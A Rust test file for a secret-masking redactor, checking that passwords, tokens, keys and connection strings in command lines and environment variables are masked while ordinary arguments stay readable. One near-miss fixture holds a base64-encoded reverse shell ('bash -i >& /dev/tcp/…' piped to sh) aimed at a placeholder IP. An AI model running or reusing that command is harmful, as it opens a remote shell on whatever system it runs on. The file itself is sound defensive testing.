//! What is masked, by whom, and what stays readable.

use super::*;
use base64::Engine as _;
use proptest::prelude::*;

fn redactor() -> &'static Redactor {
    static ONE: std::sync::LazyLock<Redactor> =
        std::sync::LazyLock::new(|| Redactor::new([7; 32], true));
    &ONE
}

/// What is shown of a command line, and by which rules it was masked.
fn masked(line: &[&str]) -> (String, Vec<String>) {
    let mut argv: Vec<Text> = line.iter().map(|a| Text::from(*a)).collect();
    let did = redactor().arguments(&mut argv);
    let all: Vec<String> = argv.iter().map(ToString::to_string).collect();
    (all.join(" "), did)
}

const SECRET: &str = "hunter2-Zq8";

#[test]
fn an_environment_is_masked_as_arguments_are() {
    let mut env = [
        "DB_PASSWORD=hunter2-Zq8".into(),
        "HTTP_PROXY=http://me:hunter2-Zq8@192.0.2.1:8080".into(),
        "PATH=/usr/bin:/bin".into(),
    ];
    let did = redactor().environment(&mut env);
    assert_eq!(Vec::from_iter(did), ["assignment", "url-password"]);
    assert!(env.iter().all(|v| !v.to_string().contains(SECRET)));
    assert_eq!(env[2], "PATH=/usr/bin:/bin".into());
}

#[test]
fn secrets_in_their_usual_places_are_masked_and_the_rule_is_named() {
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl";
    for (line, rule, secret) in [
        (&["x", "--password", SECRET][..], "option", SECRET),
        (&["x", "-token", SECRET], "option", SECRET),
        (&["x", "--db-password=hunter2-Zq8"], "assignment", SECRET),
        (
            &["env", "PGPASSWORD=hunter2-Zq8", "psql"],
            "assignment",
            SECRET,
        ),
        (
            &["sh", "-c", "export API_KEY='hunter2-Zq8'; run"],
            "assignment",
            SECRET,
        ),
        (&["mysql", "-uroot", "-phunter2-Zq8"], "option", SECRET),
        (&["sshpass", "-p", SECRET, "ssh", "h"], "option", SECRET),
        (&["redis-cli", "-a", SECRET], "option", SECRET),
        (&["curl", "-u", "me:hunter2-Zq8", "h"], "option", SECRET),
        (
            &["/usr/bin/curl", "-ume:hunter2-Zq8", "h"],
            "option",
            SECRET,
        ),
        (&["docker", "login", "-p", SECRET], "option", SECRET),
        (
            &["psql", "postgres://me:hunter2-Zq8@db:5432/shop"],
            "url-password",
            SECRET,
        ),
        (
            &["curl", "-H", "Authorization: Bearer hunter2-Zq8"],
            "authorization",
            SECRET,
        ),
        (&["curl", "-H", "X-Api-Key: hunter2-Zq8"], "header", SECRET),
        (
            &["curl", "-d", r#"{"user":"me","password":"hunter2-Zq8"}"#],
            "json",
            SECRET,
        ),
        (
            &["x", "Server=db;Uid=sa;Pwd=hunter2-Zq8;"],
            "connection-string",
            SECRET,
        ),
        (
            &["x", "AKIAIOSFODNN7EXAMPLE"],
            "aws-key",
            "AKIAIOSFODNN7EXAMPLE",
        ),
        (&["x", jwt], "jwt", jwt),
        (
            &["x", "xQ9mZr7Lk2Wv5Tn8Yp3Bc6Df"],
            "entropy",
            "xQ9mZr7Lk2Wv5Tn8Yp3Bc6Df",
        ),
    ] {
        let (shown, did) = masked(line);
        assert!(!shown.contains(secret), "{line:?}: {shown}");
        assert!(
            shown.contains(&format!("[redacted:{rule}:")),
            "{line:?}: {shown}"
        );
        assert_eq!(did, [rule], "{line:?}");
    }
}

#[test]
fn what_is_no_secret_is_left_as_it_is() {
    for line in [
        &["ls", "-la", "/etc/shadow"][..],
        &["x", "--password-file", "/run/secrets/db"],
        &["x", "DB_PASSWORD_FILE=/run/secrets/db"],
        &["sh", "-c", "PWD=/root OLDPWD=/ ls"],
        &["x", "--tokenizer=bert", "--secretary", "jane"],
        &["x", "--password=$DB_PASSWORD"],
        &[
            "git",
            "checkout",
            "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
        ],
        &["x", "123e4567-e89b-12d3-a456-426614174000"],
        &["x", "/var/lib/docker/xQ9mZr7Lk2Wv5Tn8Yp3Bc6Df/merged"],
        &[
            "java",
            "-cp",
            "org.example.ApplicationContextInitializer1Factory",
        ],
        &["ssh", "-p", "2222", "host"],
        &["mysql", "-u", "root", "-p", "shop"],
        &["curl", "http://db:8080/a"],
        &["nginx", "-g", "daemon off;"],
    ] {
        let (shown, did) = masked(line);
        assert_eq!(shown, line.join(" "));
        assert!(did.is_empty(), "{line:?}: {did:?}");
    }
}

#[test]
fn equal_secrets_have_equal_masks_and_another_key_another() {
    let digest = |r: &Redactor, secret: &str| {
        let mut argv = [Text::from("x"), "--password".into(), secret.into()];
        r.arguments(&mut argv);
        argv[2].to_string()
    };
    let other = Redactor::new([8; 32], true);
    assert_eq!(digest(redactor(), "a"), digest(redactor(), "a"));
    assert_ne!(digest(redactor(), "a"), digest(redactor(), "b"));
    assert_ne!(digest(redactor(), "a"), digest(&other, "a"));
    // the same secret in another place is told to be the same
    let (by_option, _) = masked(&["x", "--password", SECRET]);
    let (by_url, _) = masked(&["x", "a://b:hunter2-Zq8@c"]);
    let tail = |s: &str| {
        s.split(':')
            .find(|p| p.contains(']'))
            .map(|p| p[..12].to_owned())
    };
    assert_eq!(tail(&by_option), tail(&by_url));
}

#[test]
fn own_rules_mask_their_group_and_bad_ones_are_refused_with_the_reason() {
    let mut r = redactor().clone();
    r.add("badge", "badge (?P<secret>[0-9]+)").unwrap();
    let mut argv = [Text::from("x"), "badge 4711".into()];
    assert_eq!(r.arguments(&mut argv), ["badge"]);
    assert!(argv[1].to_string().starts_with("badge [redacted:badge:"));
    for (name, form) in [
        ("a b", "x"),
        ("", "x"),
        ("x", "("),
        ("x", ".*"),
        ("x", "a{99999}{999}"),
    ] {
        assert!(r.add(name, form).is_err(), "{name:?} {form:?}");
    }
}

#[test]
fn off_is_off() {
    let mut argv = [Text::from("x"), "--password=a".into()];
    assert!(Redactor::off().arguments(&mut argv).is_empty());
    assert_eq!(argv[1].to_string(), "--password=a");
}

proptest! {
    /// Whatever the arguments are: no panic, twice is once, and the number of arguments stays.
    #[test]
    fn masking_twice_is_masking_once(
        words in prop::collection::vec("(-p|--password|-u|--token=|PASSWORD=|a://b:c@d|[a-zA-Z0-9:/@=;'\" \\-]{0,40})", 0..6),
        program in "(mysql|curl|sshpass|x)",
    ) {
        let r = redactor();
        let mut argv: Vec<Text> = std::iter::once(program).chain(words).map(|w| Text::from(w.as_str())).collect();
        let n = argv.len();
        r.arguments(&mut argv);
        let once = argv.clone();
        let again = r.arguments(&mut argv);
        prop_assert_eq!(argv.len(), n);
        prop_assert_eq!(&argv, &once);
        prop_assert!(again.is_empty());
    }
}

/// A random word of the length, of these letters; the same at each run.
fn word(len: usize, letters: &str, seed: u64) -> String {
    let letters = letters.as_bytes();
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        letters[(state >> 11) as usize % letters.len()] as char
    };
    (0..len).map(|_| next()).collect()
}
const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const BASE64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const HEX: &str = "0123456789abcdef";
const BASE36: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

/// Tokens in the forms that their providers print, of random letters.
fn provider_tokens(seed: u64) -> Vec<(&'static str, String)> {
    let w = |n, l| word(n, l, seed);
    let mut all = vec![
        (
            "AWS",
            format!("AKIA{}", word(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", seed)),
        ),
        ("GCP key", format!("AIza{}", w(35, ALNUM))),
        ("GCP access", format!("ya29.{}", w(60, ALNUM))),
        ("GCP client", format!("GOCSPX-{}", w(28, ALNUM))),
        (
            "Azure client",
            format!("{}8Q~{}", w(3, ALNUM), w(34, ALNUM)),
        ),
        ("GitHub", format!("ghp_{}", w(36, ALNUM))),
        (
            "GitHub fine",
            format!("github_pat_{}_{}", w(22, ALNUM), w(59, ALNUM)),
        ),
        ("GitLab", format!("glpat-{}", w(20, ALNUM))),
        ("GitLab runner", format!("glrt-{}", w(20, ALNUM))),
        (
            "Slack bot",
            format!("xoxb-{}-{}", w(12, "0123456789"), w(24, ALNUM)),
        ),
        ("Slack app", format!("xapp-1-{}", w(40, ALNUM))),
        ("Stripe", format!("sk_live_{}", w(24, ALNUM))),
        ("Stripe restricted", format!("rk_live_{}", w(24, ALNUM))),
        ("Stripe webhook", format!("whsec_{}", w(32, ALNUM))),
        ("npm", format!("npm_{}", w(36, ALNUM))),
        ("PyPI", format!("pypi-AgEIcHlwaS5vcmc{}", w(80, ALNUM))),
        ("Docker", format!("dckr_pat_{}", w(27, ALNUM))),
        ("Vault", format!("hvs.{}", w(24, ALNUM))),
        ("SendGrid", format!("SG.{}.{}", w(22, ALNUM), w(43, ALNUM))),
        ("OpenAI", format!("sk-proj-{}", w(48, ALNUM))),
        ("Anthropic", format!("sk-ant-api03-{}", w(60, ALNUM))),
        ("Hugging Face", format!("hf_{}", w(34, ALNUM))),
        ("DigitalOcean", format!("dop_v1_{}", w(64, HEX))),
        ("Databricks", format!("dapi{}", w(32, HEX))),
        ("Shopify", format!("shpat_{}", w(32, HEX))),
        (
            "Telegram",
            format!("{}:AA{}", w(10, "123456789"), w(33, ALNUM)),
        ),
        (
            "JWE",
            format!(
                "eyJ{}..{}.{}.{}",
                w(40, ALNUM),
                w(16, ALNUM),
                w(40, ALNUM),
                w(22, ALNUM)
            ),
        ),
        ("random base 64", w(40, BASE64)),
        ("random base 36", w(40, BASE36)),
        ("random letters", w(32, ALNUM)),
    ];
    let kube = base64::engine::general_purpose::STANDARD;
    all.push((
        "a token in base 64",
        kube.encode(format!("ghp_{}", w(36, ALNUM))),
    ));
    all.push((
        "a key in base 64",
        kube.encode("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIrY\n"),
    ));
    all
}

/// Random words that look like words, hexadecimal ones among base 36, and paths are left alone: a share
/// of the random ones, which is counted here.
#[test]
fn tokens_of_providers_are_masked_wherever_they_stand() {
    let (mut tried, mut missed) = (0, Vec::new());
    for seed in 1..=20 {
        for (what, token) in provider_tokens(seed) {
            let inside = [
                vec!["x".to_owned(), token.clone()],
                vec![
                    "sh".into(),
                    "-c".into(),
                    format!("run --with={token} && echo ok"),
                ],
                vec!["curl".into(), format!("https://h.example/a?q={token}&b=1")],
                vec!["env".into(), format!("SETTING={token}"), "x".into()],
            ];
            for mut line in inside {
                tried += 1;
                let mut argv: Vec<Text> = line.drain(..).map(Text::from).collect();
                redactor().arguments(&mut argv);
                let shown: Vec<String> = argv.iter().map(ToString::to_string).collect();
                if shown.join(" ").contains(&token) {
                    missed.push((what, token.clone()));
                }
            }
        }
    }
    let random = missed.iter().filter(|(what, _)| what.starts_with("random"));
    let random = random.count();
    assert_eq!(random, missed.len(), "{missed:?}");
    assert!(random * 50 <= tried, "{random} of {tried}: {missed:?}");
}

#[test]
fn an_attackers_secret_never_stays_whatever_the_place() {
    let pem =
        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n-----END OPENSSH PRIVATE KEY-----");
    let pgp = format!("-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{SECRET}\n");
    let lines: &[&[&str]] = &[
        // options, in their spellings
        &["x", "--dbPassword", SECRET],
        &["x", "--authToken=hunter2-Zq8"],
        &["x", "--client-secret", SECRET],
        &["x", "--pass", SECRET],
        &["x", "--smtp-pass=hunter2-Zq8"],
        &["keytool", "-storepass", SECRET, "-keypass", SECRET],
        &[
            "java",
            "-Djavax.net.ssl.keyStorePassword=hunter2-Zq8",
            "-jar",
            "a.jar",
        ],
        &[
            "openssl",
            "rsa",
            "-passin",
            "pass:hunter2-Zq8",
            "-in",
            "k.pem",
        ],
        &["aws", "configure", "set", "aws_secret_access_key", SECRET],
        &[
            "aws",
            "secretsmanager",
            "put-secret-value",
            "--secret-string",
            SECRET,
        ],
        &["redis-server", "--requirepass", SECRET],
        &["redis-cli", "CONFIG", "SET", "requirepass", SECRET],
        &[
            "kubectl",
            "config",
            "set-credentials",
            "me",
            "--token=hunter2-Zq8",
        ],
        &[
            "kubectl",
            "create",
            "secret",
            "generic",
            "s",
            "--from-literal=password=hunter2-Zq8",
        ],
        // programs with short options, also behind other programs
        &["sudo", "-u", "root", "mysql", "-phunter2-Zq8", "shop"],
        &["timeout", "5", "redis-cli", "-a", SECRET, "ping"],
        &["env", "LANG=C", "sshpass", "-phunter2-Zq8", "ssh", "h"],
        &[
            "docker",
            "exec",
            "db",
            "mysqldump",
            "-uroot",
            "-phunter2-Zq8",
        ],
        &["mongosh", "-u", "me", "-p", SECRET],
        &["ldapsearch", "-D", "cn=a", "-w", SECRET],
        &["smbclient", "-U", "me%hunter2-Zq8", "//h/s"],
        &["unzip", "-P", SECRET, "a.zip"],
        &["skopeo", "copy", "--src-creds", "me:hunter2-Zq8", "a", "b"],
        &["http", "-a", "me:hunter2-Zq8", "h"],
        // in scripts
        &["sh", "-c", "cd / && mysql -uroot -phunter2-Zq8 shop < dump"],
        &[
            "bash",
            "-ec",
            "sshpass -p 'hunter2-Zq8' ssh h; redis-cli -a hunter2-Zq8",
        ],
        &["sh", "-c", "foo --password hunter2-Zq8 | bar"],
        &["sh", "-c", "mysql -p'a b hunter2-Zq8' shop"],
        &[
            "sh",
            "-c",
            "PGPASSWORD=hunter2-Zq8 psql; MYSQL_PWD=hunter2-Zq8 mysql",
        ],
        &[
            "bash",
            "-c",
            "curl -u me:hunter2-Zq8 h; export DB_PASS=\"a hunter2-Zq8\"",
        ],
        &["sh", "-c", "printf 'user: me\npassword: hunter2-Zq8\n' > f"],
        // values that end later than they seem to
        &["x", "--password=a&b;hunter2-Zq8"],
        &["x", "--password=a'b hunter2-Zq8"],
        &[
            "docker",
            "run",
            "-e",
            "DB_PASSWORD=correct horse hunter2-Zq8",
            "i",
        ],
        // URLs
        &["x", "amqp://me:p@hunter2-Zq8@q/v"],
        &["x", "mongodb+srv://me:hunter2-Zq8@a:1,b:2/db?w=1"],
        &["x", "redis://:hunter2-Zq8@r:6379/0"],
        &["git", "clone", "https://oauth2:hunter2-Zq8@git.example/a"],
        &[
            "git",
            "clone",
            "https://4b825dc642cb6eb9a060e54bf8d69288hunter2-Zq8@git.example/a",
        ],
        &["curl", "https://h/a?access_token=hunter2-Zq8&b=1"],
        &[
            "azcopy",
            "https://a.blob.core.windows.net/c?sv=2020&sig=hunter2-Zq8&se=1",
        ],
        // headers
        &["curl", "-HAuthorization: Bearer hunter2-Zq8", "h"],
        &[
            "curl",
            "-H",
            "Authorization: AWS4-HMAC-SHA256 Credential=me, Signature=hunter2-Zq8",
        ],
        &["curl", "-H", "Cookie: session=hunter2-Zq8", "h"],
        &["curl", "-H", "api-key: hunter2-Zq8", "h"],
        &[
            "git",
            "-c",
            "http.extraheader=AUTHORIZATION: basic hunter2-Zq8",
            "fetch",
        ],
        // documents
        &["x", r#"{"password":"a\"b hunter2-Zq8"}"#],
        &["sh", "-c", r#"curl -d "{\"password\":\"hunter2-Zq8\"}" h"#],
        &["python3", "-c", "connect({'password': 'hunter2-Zq8'})"],
        &["x", r#"{"auths":{"r":{"auth":"hunter2-Zq8"}}}"#],
        &["x", "users:\n- name: me\n  user:\n    token: hunter2-Zq8\n"],
        &["x", "client-key-data: hunter2-Zq8"],
        &["psql", "-c", "ALTER USER me WITH PASSWORD 'hunter2-Zq8'"],
        &["mysql", "-e", "CREATE USER a IDENTIFIED BY 'hunter2-Zq8'"],
        &[
            "x",
            "Server=db;User Id=sa;Password=hunter2-Zq8;Encrypt=true",
        ],
        &[
            "x",
            "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=hunter2-Zq8==;",
        ],
        &[
            "x",
            "Endpoint=sb://a/;SharedAccessKeyName=b;SharedAccessKey=hunter2-Zq8=",
        ],
        &["x", &pem],
        &["x", &pgp],
    ];
    let shown = lines.iter().map(|line| masked(line).0);
    let leaks: Vec<String> = shown.filter(|s| s.contains(SECRET)).collect();
    assert!(leaks.is_empty(), "{leaks:#?}");
    for variable in [
        "PGPASSWORD=hunter2-Zq8",
        "MYSQL_PWD=hunter2-Zq8",
        "DB_PASS=correct horse hunter2-Zq8",
        "REDISCLI_AUTH=hunter2-Zq8",
        "SSHPASS=hunter2-Zq8",
        "GH_PAT=hunter2-Zq8",
        "SECRET_KEY_BASE=a;b hunter2-Zq8",
        "JWT_SIGNING_KEY=hunter2-Zq8",
        "APP_KEY=base64:hunter2-Zq8",
        "DATABASE_URL=postgres://me:hunter2-Zq8@db/shop",
        "DOCKER_AUTH_CONFIG={\"auths\":{\"r\":{\"auth\":\"hunter2-Zq8\"}}}",
    ] {
        let mut env = [Text::from(variable)];
        redactor().environment(&mut env);
        assert!(
            !env[0].to_string().contains(SECRET),
            "{variable}: {}",
            env[0]
        );
    }
}

#[test]
fn near_misses_stay_readable() {
    let digest = word(64, HEX, 3);
    let image = format!("registry.example:5000/shop/web@sha256:{digest}");
    let pulled = format!("docker://registry.example:5000/shop/web@sha256:{digest}");
    let sum = format!("--integrity=sha512-{}==", word(86, BASE64, 4));
    let public = format!(
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA{} me@h",
        word(44, BASE64, 5)
    );
    let payload = base64::engine::general_purpose::STANDARD
        .encode("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 # a payload is evidence");
    let coded = format!("echo {payload} | base64 -d | sh");
    let lines: &[&[&str]] = &[
        &["docker", "run", &image],
        &["skopeo", "copy", &pulled, "dir:x"],
        &["git", "show", &digest[..40]],
        &["x", "--id=123e4567-e89b-12d3-a456-426614174000"],
        &["npm", "x", &sum],
        &["sh", "-c", &coded],
        &["echo", &public],
        &["echo", "aGVsbG8gd29ybGQ="],
        &["x", "--max-tokens", "4096", "--max_tokens=100"],
        &["vault", "server", "-token-ttl=24h", "--token-ttl", "24h"],
        &["psql", "--no-password", "shop"],
        &["docker", "login", "--password-stdin", "r"],
        &["tar", "--bypass=true", "--compass", "north"],
        &["ssh", "-p", "2222", "mysql.example"],
        &[
            "sh",
            "-c",
            "docker run -p 8080:80 web; ssh -p 22 h; mkdir -p /a",
        ],
        &[
            "x",
            "AWS_ACCESS_KEY_NAME=a",
            "SECRET_NAME=shop",
            "TOKEN_URL=https://h/t",
        ],
        &[
            "kubectl",
            "get",
            "pod",
            "web-7d4b9c6f5-x2x9z",
            "shop-5lk9vvl2q6p4wz7x8c1mn3b2a",
        ],
        &[
            "x",
            "/nix/store/7i8fd2yjr0v9mdjqyrsmlvx6qn1hv0kd-bash-5.2/bin/bash",
        ],
        &[
            "x",
            "com.example.shop.Service2.AbstractSingletonProxyFactoryBeanV2",
        ],
        &["grep", "-r", "password", "/etc"],
        &["cat", "/run/secrets/token"],
        &["sh", "-c", "echo the password is wrong; echo token: "],
        &["x", "https://db.example:5432/a@b"],
    ];
    let shown = lines.iter().map(|line| (masked(line).0, line.join(" ")));
    let changed: Vec<_> = shown.filter(|(shown, line)| shown != line).collect();
    assert!(changed.is_empty(), "{changed:#?}");
}
